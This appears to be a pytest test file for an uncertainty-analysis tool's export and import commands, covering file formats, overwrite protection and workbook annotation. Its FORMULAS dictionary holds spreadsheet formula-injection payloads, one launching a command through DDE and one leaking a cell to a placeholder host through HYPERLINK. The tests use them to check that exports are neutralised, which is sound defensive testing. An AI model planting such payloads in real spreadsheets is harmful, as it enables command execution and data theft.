"""`uncertainty export`, and `new --from` back again."""

import gc
import json
from pathlib import Path

import pytest
from study_contents import contents
from variants import one_in

import uncertainty as un


@pytest.mark.parametrize("name", ["book.xlsx", "book.json", "book"])
def test_a_study_goes_out_and_comes_back(command, write_study, name):
    path = write_study()
    assert command("export", path, "--to", name).out == f"Wrote {name}.\n"
    assert command("new", "back.toml", "--from", name).code == 0
    assert contents(un.load_study("back.toml")) == contents(un.load_study(path))
    assert command("run", name, "--samples", 300).code == 0


def test_nothing_that_is_there_is_overwritten_unasked(command, tmp_path, write_study):
    path = write_study()
    (tmp_path / "book.xlsx").write_text("precious")
    found = command("export", path, "--to", "book.xlsx")
    assert (found.code, found.err) == (2, "error: book.xlsx: exists already; --force replaces it\n")
    assert (tmp_path / "book.xlsx").read_text() == "precious"
    assert command("export", path, "--to", "book.xlsx", "--force").code == 0
    assert command("export", path, "--to", "folder").code == 0
    found = command("export", path, "--to", "folder")
    assert found.err == "error: folder: exists already; --force writes into a folder that has files in it\n"


def test_a_folder_that_is_written_again_holds_nothing_of_the_study_before(command, tmp_path, write_study):
    command("export", write_study(), "--to", "folder")
    (tmp_path / "folder" / "notes.csv").write_text("mine")
    assert (tmp_path / "folder" / "choices.csv").is_file()
    other = write_study(
        """
        format = 1
        [study]
        title = "t"
        headline = "a"
        [inputs.a]
        unit = "1"
        point = 2
        [outputs.a]
        unit = "1"
        """
    )
    assert command("export", other, "--to", "folder", "--force").code == 0
    assert contents(un.load_study("folder")) == contents(un.load_study(other))
    files = {"inputs.csv", "notes.csv", "outputs.csv", "study.csv"}
    assert {path.name for path in (tmp_path / "folder").iterdir()} == files


MEASURED = """
format = 1
[study]
title = "Measured"
headline = "y"
[indices]
fuel = { members = ["coal", "gas"] }
[inputs.use]
unit = "TJ"
index = ["fuel"]
table = "use.csv"
columns = { fuel = "fuel", point = "use" }
[inputs.x]
unit = "g"
point = 2
distribution = 'empirical("seen/x.csv", "x")'
[outputs.y]
value = "sum(use) * x"
unit = "g*TJ"
"""


@pytest.fixture
def measured(write_study, tmp_path):
    (tmp_path / "seen").mkdir()
    (tmp_path / "seen" / "x.csv").write_text("x\n1\n2\n3\n")
    (tmp_path / "use.csv").write_text("fuel,use\ncoal,3\ngas,4\n")
    return write_study(MEASURED)


@pytest.mark.parametrize("name", one_in(3, ["book.json", "book.xlsx", "again.toml"]))
def test_one_file_has_the_data_files_that_it_reads_beside_it(command, measured, tmp_path, name):
    (tmp_path / "out").mkdir()
    found = command("export", measured, "--to", f"out/{name}")
    assert found.out == f"Wrote out/{name}, and seen/x.csv and use.csv beside it, which it reads.\n"
    assert list(un.differences(un.load_study(measured), un.load_study(f"out/{name}"))) == []
    # what is there and the same is not named again
    assert command("export", measured, "--to", "out/more.json").out == "Wrote out/more.json.\n"


def test_another_file_with_the_name_of_a_data_file_is_kept(command, measured, tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "use.csv").write_text("mine")
    found = command("export", measured, "--to", "out/book.json", "--force")
    assert found.err == f"error: out/use.csv: is another file than the one that {measured} reads\n"
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["use.csv"]
    (tmp_path / "out" / "use.csv").unlink()
    found = command("export", measured, "--to", "out/use.csv")
    assert found.code == 0
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["seen", "use.csv"]


def test_a_file_with_the_name_of_a_data_file_that_it_reads_is_refused(command, measured, tmp_path):
    whole = Path(measured).read_text("utf-8").replace("seen/x.csv", "x.csv")
    (tmp_path / "x.csv").write_text("x\n1\n2\n3\n")
    (tmp_path / "out").mkdir()
    Path(measured).write_text(whole, "utf-8")
    found = command("export", measured, "--to", "out/x.csv")
    assert found.err == "error: out/x.csv: is the name of a data file of the study; choose another\n"


def test_a_form_that_nobody_knows_is_refused(command, write_study):
    found = command("export", write_study(), "--to", "book.ods")
    assert found.err == (
        "error: book.ods: expected a name that ends in .xlsx, .csv, .json, .toml, .bib, .csl.json, "
        "or a folder's name\n"
    )
    assert command("export", write_study()).err.startswith("error: --to: expected a file to write")


@pytest.mark.slow
def test_inputs_alone_begin_a_study_that_runs_and_says_what_is_missing(command, tmp_path):
    (tmp_path / "inputs.csv").write_text("name,unit,point,distribution\nqueries,query/day,10,2 to 8\n")
    found = command("new", "mine.toml", "--from", "inputs.csv")
    assert found.code == 0
    assert "Its output shows the input queries alone: put there what is calculated." in found.err
    assert "taken for things that are counted: query." in found.err
    assert command("run", "mine.toml", "--samples", 300).code == 0
    refused = command("run", "inputs.csv")
    assert (refused.code, refused.out) == (2, "")
    assert refused.err == (
        "error: inputs.csv: has no outputs; uncertainty new inputs.toml --from inputs.csv begins a study\n"
    )


CITED = """
format = 1
[study]
title = "Cited"
headline = "y"
[indices]
fuel = { members = ["coal", "gas"] }
[inputs.x]
unit = "g"
point = 2
distribution = "1 to 4"
source = "after @doe2020, table 3"
[inputs.use]
unit = "TJ"
index = ["fuel"]
point = 3
across = "same"
[inputs.e]
unit = "1"
point = 2
distribution = "experts"
experts = [{ name = "A", distribution = "1 to 3" }]
[sources.doe2020]
title = "On grams"
authors = ["Doe, J."]
year = 2020
[outputs.y]
value = "sum(use) * e * x"
unit = "g*TJ"
"""


def test_inputs_that_need_more_of_their_study_are_told_of(command, write_study):
    found = command("export", write_study(CITED), "--to", "alone.csv")
    assert found.err == (
        "Of no use without the rest of the study: inputs.use.index, inputs.e.distribution and "
        "inputs.use.across.\n"
    )
    assert "after Doe 2020, table 3" in Path("alone.csv").read_text("utf-8-sig")
    whole = CITED.replace('index = ["fuel"]', "").replace('across = "same"', "")
    whole = whole.replace("sum(use)", "use").replace('distribution = "experts"', 'distribution = "1 to 3"')
    found = command("export", write_study(whole), "--to", "alone.csv", "--force")
    assert (found.code, found.err) == (0, "")
    assert command("new", "back.toml", "--from", "alone.csv").code == 0
    assert un.load_study("back.toml").inputs["x"].source == "after Doe 2020, table 3"


def test_a_derived_study_is_the_same_until_it_is_changed(command):
    assert command("new", "mine.toml", "--from", "gauge-block").code == 0
    assert contents(un.load_study("mine.toml")) == contents(un.load_study("gauge-block"))


def test_a_study_is_made_as_toml(command):
    found = command("new", "mine.xlsx", "--from", "gauge-block")
    assert (
        found.err == "error: mine.xlsx: a study file ends in .toml; uncertainty export writes other forms\n"
    )


def test_a_missing_library_is_one_line_that_names_the_extra(command, monkeypatch, write_study):
    monkeypatch.setitem(__import__("sys").modules, "openpyxl", None)
    found = command("export", write_study(), "--to", "book.xlsx")
    assert (found.code, found.out) == (2, "")
    assert found.err == (
        'error: openpyxl is not installed; the extra "excel" brings it, and so does: pip install openpyxl\n'
    )


@pytest.mark.slow
@pytest.mark.parametrize("label", ["\\u000b", "\\r", "\\u001f", "\\ufffe", "x" * 40_000])
def test_a_text_that_a_workbook_cannot_hold_is_one_line_and_nothing_else(
    command, write_study, label, small_text
):
    text = small_text.replace("[inputs.distance]", f'[inputs.distance]\nlabel = "{label}"')
    found = command("export", write_study(text), "--to", "made.xlsx")
    gc.collect()  # an archive that was left open would complain here, which pytest takes for a failure
    assert (found.code, found.out) == (2, "")
    assert found.err.startswith("error: made.xlsx: inputs, distance, label: a ")
    assert found.err.count("\n") == 1
    assert not Path("made.xlsx").exists()


FORMULAS = {
    "label": "x;=1+1;y",
    "note": "\uff1dcmd|'/c calc'!A0",
    "source": ' =HYPERLINK("http://x.test/?"&A1)',
    "group": "a;\u200b@SUM(1)|-2",
}


@pytest.mark.parametrize("to", ["folder", "book.xlsx", "study.json", "inputs.csv"])
def test_no_text_of_a_study_is_a_formula_and_every_text_comes_back(command, write_study, to):
    texts = "\n".join(f"{key} = {json.dumps(text)}" for key, text in FORMULAS.items())
    study = write_study(replace={'group = "road"\n': texts + "\n"})
    assert command("export", study, "--to", to).code == 0
    for path in Path("folder").glob("*.csv") if to == "folder" else [Path(to)] * (to == "inputs.csv"):
        cells = [cell for line in path.read_text("utf-8-sig").split("\n") for cell in line.split(";")]
        assert not [c for c in cells if c.lstrip(' "\u200b')[:1] in ("=", "+", "@", "\uff1d")]
    assert command("new", "back.toml", "--from", to).code == 0
    found, wanted = (un.load_study(path).inputs["distance"] for path in ("back.toml", study))
    for key, text in FORMULAS.items():
        assert getattr(found, key) == getattr(wanted, key) == text.strip()


@pytest.mark.slow
def test_no_text_of_a_table_of_results_is_a_formula(command, write_study):
    study = write_study(replace={'"Yearly emissions"': '"x;\uff1d1+1;-y"', '"Two in the car"': '" =1+1"'})
    assert command("run", study, "--samples", 64, "--table", "results.csv").code == 0
    assert "\n=" not in (text := Path("results.csv").read_text("utf-8-sig")).replace(";", "\n")
    assert "\uff1d" not in text.replace("'\uff1d", "")
    assert command("challenge", study, "--samples", 256, "--table", "verdicts.csv").code == 0
    assert un.read_table("verdicts.csv").rows


@pytest.mark.slow
def test_a_copy_of_a_workbook_gets_what_the_study_says(command):
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["Price", 3])
    book.active.append(["Total", "=B1*2"])
    book.save("model.xlsx")
    command("new", "made.toml", "--from", "model.xlsx", "--cell", "Sheet!B2")
    found = command("export", "made.toml", "--to", "seen.xlsx", "--annotate", "model.xlsx")
    assert found.out == "Wrote seen.xlsx, with something beside 1 cell.\n"
    assert openpyxl.load_workbook("seen.xlsx").active["B2"].value == "=B1*2"
    found = command("export", "made.toml", "--to", "model.xlsx", "--annotate", "model.xlsx", "--force")
    assert found.err == "error: model.xlsx: is the workbook itself; name a copy\n"
    found = command("export", "made.toml", "--to", "seen.csv", "--annotate", "model.xlsx")
    assert found.err == "error: seen.csv: expected a name that ends in .xlsx, for the copy\n"
